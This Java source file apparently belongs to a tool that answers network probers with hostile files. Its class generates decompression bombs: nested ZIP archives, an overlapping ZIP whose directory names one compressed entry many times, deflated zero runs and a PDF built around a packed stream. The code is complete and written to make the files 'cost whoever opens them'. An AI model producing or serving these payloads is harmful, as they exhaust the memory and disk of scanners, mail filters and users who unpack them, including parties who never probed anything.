package dev.sallyport.prober.answer;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** Files made to cost whoever opens them. */
final class Bombs {
    private Bombs() {}

    static byte[] zeros(int length) {
        return new byte[length];
    }

    static byte[] deflated(byte[] content, boolean hasHeader) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, !hasHeader);
        deflater.setInput(content);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[8192];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    /** Archives in archives, each holding several of the next: small outside, endless inside. */
    static byte[] nested(int depth, int width) {
        byte[] inner = "id,n\n1,2\n".getBytes(UTF_8);
        String name = "x.csv";
        for (int i = 0; i < depth; i++) {
            Zips zip = new Zips();
            for (int j = 0; j < width; j++) {
                zip.with(j + name, inner);
            }
            inner = zip.bytes();
            name = ".zip";
        }
        return inner;
    }

    /** An archive whose directory names one and the same content under many names. */
    static byte[] overlapping(byte[] content, int names) {
        byte[] packed = deflated(content, false);
        CRC32 crc = new CRC32();
        crc.update(content);
        ByteBuffer zip = ByteBuffer.allocate(packed.length + 100 + names * 60).order(ByteOrder.LITTLE_ENDIAN);
        zip.putInt(0x04034b50)
                .putShort((short) 20)
                .putShort((short) 0)
                .putShort((short) 8)
                .putInt(0);
        zip.putInt((int) crc.getValue())
                .putInt(packed.length)
                .putInt(content.length)
                .putShort((short) 1);
        zip.putShort((short) 0).put((byte) 'a').put(packed);
        int directory = zip.position();
        for (int i = 0; i < names; i++) {
            byte[] name = String.format("%08d", i).getBytes(UTF_8);
            zip.putInt(0x02014b50)
                    .putShort((short) 20)
                    .putShort((short) 20)
                    .putShort((short) 0)
                    .putShort((short) 8);
            zip.putInt(0).putInt((int) crc.getValue()).putInt(packed.length).putInt(content.length);
            zip.putShort((short) name.length)
                    .putShort((short) 0)
                    .putShort((short) 0)
                    .putShort((short) 0);
            zip.putShort((short) 0).putInt(0).putInt(0).put(name);
        }
        int end = zip.position();
        zip.putInt(0x06054b50).putInt(0).putShort((short) names).putShort((short) names);
        zip.putInt(end - directory).putInt(directory).putShort((short) 0);
        return java.util.Arrays.copyOf(zip.array(), zip.position());
    }

    /** A PDF of one page, its content given as it is packed. */
    static byte[] pdf(String filter, byte[] packed) {
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        pdf.writeBytes(("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
                        + "2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n"
                        + "3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n"
                        + "4 0 obj\n<</Filter" + filter + "/Length " + packed.length + ">>\nstream\n")
                .getBytes(UTF_8));
        pdf.writeBytes(packed);
        pdf.writeBytes("\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF".getBytes(UTF_8));
        return pdf.toByteArray();
    }
}
